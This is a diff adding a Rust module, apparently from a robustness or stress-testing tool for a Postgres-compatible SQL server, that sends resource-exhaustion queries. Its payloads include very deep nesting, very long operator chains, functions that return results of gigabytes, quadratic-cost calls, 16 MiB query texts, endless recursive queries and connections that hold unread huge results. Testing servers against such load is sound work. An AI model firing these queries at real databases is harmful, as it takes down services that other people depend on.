@@ -1,0 +1,130 @@
+//! SQL statements: deep, long, and with functions whose result or cost their arguments decide.
+
+use super::{crowd, sql_rounds};
+use crate::answers::Answer;
+use crate::attack::Run;
+use crate::postgres::{Postgres, query};
+
+/// Links of a chain, from what a BI tool writes to what only an attacker writes.
+const LINKS: [usize; 3] = [2_000, 20_000, 200_000];
+/// The time limit that sessions set themselves, so that a statement which can be cancelled ends.
+const TIMEOUT: &str = "SET statement_timeout = 1000";
+
+fn chains(make: impl Fn(usize) -> String) -> Vec<String> {
+    LINKS.into_iter().map(make).collect()
+}
+
+/// `a OR b OR …`, and AND.
+pub(crate) fn or_chain(run: &Run) -> Result<(), Answer> {
+    let mut texts = chains(|n| format!("SELECT 1 WHERE 1 = 2{}", " OR 1 = 3".repeat(n)));
+    texts.extend(chains(|n| format!("SELECT 1 WHERE 1 = 1{}", " AND 1 = 1".repeat(n))));
+    sql_rounds(run, &[TIMEOUT], &texts)
+}
+
+/// `1 + 1 + …`, and `||`.
+pub(crate) fn plus_chain(run: &Run) -> Result<(), Answer> {
+    let mut texts = chains(|n| format!("SELECT 1{}", " + 1".repeat(n)));
+    texts.extend(chains(|n| format!("SELECT 'a'{}", " || 'a'".repeat(n))));
+    sql_rounds(run, &[TIMEOUT], &texts)
+}
+
+/// `1::int::int…`, signs and negations.
+pub(crate) fn cast_chain(run: &Run) -> Result<(), Answer> {
+    let mut texts = chains(|n| format!("SELECT 1{}", "::int".repeat(n)));
+    texts.extend(chains(|n| format!("SELECT {}true", "NOT ".repeat(n))));
+    texts.extend(chains(|n| format!("SELECT {}1", "- ".repeat(n))));
+    sql_rounds(run, &[TIMEOUT], &texts)
+}
+
+/// `SELECT 1 UNION ALL SELECT 1 …`.
+pub(crate) fn union_chain(run: &Run) -> Result<(), Answer> {
+    sql_rounds(run, &[TIMEOUT], &chains(|n| format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(n))))
+}
+
+/// Parentheses, subqueries, CASE and function calls inside each other.
+pub(crate) fn nested(run: &Run) -> Result<(), Answer> {
+    let around = |left: &str, middle: &str, right: &str, n: usize| {
+        format!("SELECT {}{middle}{}", left.repeat(n), right.repeat(n))
+    };
+    let mut texts = Vec::new();
+    for n in [45, 450, 20_000] {
+        texts.push(around("(", "1", ")", n));
+        texts.push(around("(SELECT ", "1", ")", n));
+        texts.push(around("* FROM (SELECT ", "1", ") AS x", n));
+        texts.push(around("CASE WHEN true THEN ", "1", " END", n));
+        texts.push(around("abs(", "1", ")", n));
+        texts.push(around("ARRAY[", "1", "]", n));
+    }
+    sql_rounds(run, &[TIMEOUT], &texts)
+}
+
+/// Functions whose result is as long as an argument says.
+pub(crate) fn long_results(run: &Run) -> Result<(), Answer> {
+    let texts = [
+        "SELECT length(repeat(arrow_cast('x','LargeUtf8'), 4000000000000000000))",
+        "SELECT length(repeat('x', 2147483647))",
+        "SELECT cardinality(array_repeat(1, 2147483000))",
+        "SELECT cardinality(range(0, 2000000000))",
+        "SELECT length(lpad('x', 2147483647, 'y'))",
+        "SELECT length(rpad('x', 2147483647, 'y'))",
+        "SELECT length(repeat(repeat(repeat('x', 10000), 10000), 10000))",
+        "SELECT length(replace(repeat('x', 1000000), 'x', repeat('y', 1000000)))",
+        "SELECT count(*) FROM generate_series(1, 3) AS t(x) WHERE length(repeat('x', CAST(x * 700000000 AS int))) > 0",
+        "SELECT length(string_agg(repeat('x', 1000000), ',')) FROM generate_series(1, 10000)",
+        "SELECT cardinality(array_agg(repeat('x', 1000000))) FROM generate_series(1, 10000)",
+    ];
+    sql_rounds(run, &[TIMEOUT], &texts.map(str::to_owned))
+}
+
+/// Functions whose cost grows with the square of their arguments.
+pub(crate) fn long_functions(run: &Run) -> Result<(), Answer> {
+    let texts = [
+        "SELECT levenshtein(repeat('a',150000), repeat('b',150000))",
+        "SELECT length(regexp_replace(repeat('ab', 500000), '(a|b)+?c', '', 'g'))",
+        "SELECT cardinality(array_distinct(array_repeat(repeat('a', 1000), 100000)))",
+    ];
+    crowd(4, |_| sql_rounds(run, &[TIMEOUT], &texts.map(str::to_owned)))
+}
+
+/// Queries of 16 MiB of text.
+pub(crate) fn long_text(run: &Run) -> Result<(), Answer> {
+    let length = (16 << 20) - 100;
+    let texts = [
+        format!("SELECT 1 /* {} */", "a".repeat(length)),
+        "SELECT 1;".repeat(length / 9),
+        format!("SELECT length('{}')", "a".repeat(length)),
+        format!("SELECT {}1", "1,".repeat(length / 2)),
+        format!("SELECT {}", "'".repeat(length)),
+        "(".repeat(length),
+    ];
+    sql_rounds(run, &[TIMEOUT], &texts)
+}
+
+/// UNION ALL of thousands of sorted subqueries, each with operators of its own.
+pub(crate) fn sorted_union(run: &Run) -> Result<(), Answer> {
+    let branch = "(SELECT x FROM generate_series(1, 100000) AS t(x) ORDER BY x DESC)";
+    let text = |n: usize| vec![branch; n].join(" UNION ALL ");
+    sql_rounds(run, &[TIMEOUT], &[text(50), text(300), text(3_000)])
+}
+
+/// Queries that never end by themselves.
+pub(crate) fn endless(run: &Run) -> Result<(), Answer> {
+    let texts = [
+        "WITH RECURSIVE t(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM t) SELECT count(*) FROM t",
+        "SELECT count(*) FROM generate_series(1, 10000000) AS a(x), generate_series(1, 10000000) AS b(y) WHERE x + y = 0",
+        "SELECT sum(x) FROM generate_series(1, 100000000000) AS t(x)",
+    ];
+    crowd(4, |_| sql_rounds(run, &[TIMEOUT], &texts.map(str::to_owned)))
+}
+
+/// Large answers that are never read.
+pub(crate) fn answers_unread(run: &Run) -> Result<(), Answer> {
+    let mut held = Vec::new();
+    while run.round() && held.len() < 32 {
+        let mut postgres = Postgres::login(&run.target, run.role)?;
+        postgres.send(&query("SELECT x, repeat('x', 1000) FROM generate_series(1, 1000000000) AS t(x)"))?;
+        held.push(postgres);
+    }
+    run.hold(|| {});
+    Ok(())
+}
